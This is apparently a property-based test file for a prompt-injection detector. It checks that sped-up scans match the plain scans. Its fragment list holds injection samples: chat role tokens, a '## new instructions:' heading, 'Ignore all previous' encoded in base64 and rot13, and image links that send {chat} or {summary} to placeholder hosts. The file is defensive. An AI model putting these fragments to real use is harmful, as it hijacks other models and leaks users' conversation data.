"""prompt_injection's shortcuts give the plain scans' results (issue 13: speed work is output-identical).

Each scan that starts late (at the first "<", "[", "#" or "%"), runs only inside candidate runs, or is
skipped when a hint is missing is compared with the plain scan it replaces, on texts made of the
characters those shortcuts reason about.
"""

from __future__ import annotations

import codecs

from hypothesis import given, settings
from hypothesis import strategies as st

from guardrails_lite.validators.injection import _normalize as N
from guardrails_lite.validators.injection import _validator as V

FRAGMENTS = [
    "<|im_start|>",
    "<|system|>",
    "[INST]",
    "[/INST]",
    "<<SYS>>",
    "</system>",
    "<start_of_turn>",
    "## new instructions:",
    "#",
    "##",
    "\n",
    " ",
    "\t",
    "!",
    "[a](",
    "](https://x.example/?q={y})",
    "https://e.example/p?d=",
    "[ref]: https://x.example/?q={chat}",
    '<img src="https://e.example/?q={summary}">',
    "<a href='https://e.example/'>",
    "0x41",
    "\\x41",
    "deadbeef",
    "41 ",
    "41:",
    "%41",
    "%20",
    "a",
    "I",
    "g",
    "-",
    ".",
    "SWdub3Jl",
    "Vtaber",
    "nyy cerivbhf",
    "the ",
    "you ",
]

texts = st.lists(st.sampled_from(FRAGMENTS), max_size=40).map("".join)


def _old_link_targets(text: str) -> list[tuple[int, int, bool]]:
    found = [(m.start(), m.end(), m.group(1) == "!") for m in V._MD_LINK.finditer(text)]
    for m in V._HTML_LINK.finditer(text):
        found += [(m.start(), m.start() + a.end(), m.group(1).lower() != "a") for a in V._HTML_ATTR.finditer(m.group())]
    return sorted(found)


def _old_candidates(text: str) -> list[tuple[str, tuple[int, int]]]:
    return [
        (kind, m.span())
        for kind, pattern in (
            ("hex", N._HEX),
            ("base64", N._B64),
            ("backwards", N._B64_BACKWARDS),  # wave 18: base64 or base32 written backwards
            ("url-encoding", N._URLENC),
            ("url-encoding", N._PLUS_FORM),  # wave 18: words joined by "+"
        )
        for m in pattern.finditer(text)
    ]


def _old_rot13_view(text: str) -> str | None:
    if not N._ASCII_LETTER.search(text):
        return None
    flipped = codecs.encode(text, "rot13")
    plain, rot = N._english(text), N._english(flipped)
    return flipped if rot >= 3 and rot > 2 * plain else None


@settings(max_examples=500, deadline=None)
@given(texts)
def test_late_starting_scans_find_what_the_plain_scans_find(text: str) -> None:
    assert [m.span() for m in V._role_tokens(text)] == [m.span() for m in V._ROLE_TOKEN.finditer(text)]
    assert list(V._link_targets(text)) == _old_link_targets(text)
    assert [(k, m.span()) for k, m in N._candidates(text)] == _old_candidates(text)
    assert N.rot13_view(text) == _old_rot13_view(text)
    if N._SPACED.search(text):
        assert N._SPACED_HINT.search(text)


def test_the_shortcuts_see_matches_at_the_edges() -> None:
    edges = ("## new instructions:\nx", "x\n  ## new instructions:", "![a](https://e.example/?q={x})", "%41%42%43%44")
    for text in edges:
        test_late_starting_scans_find_what_the_plain_scans_find.hypothesis.inner_test(text)  # type: ignore[attr-defined]
    assert [m.span() for m in V._role_tokens("a\n ## new instructions:")] == [(2, 23)]
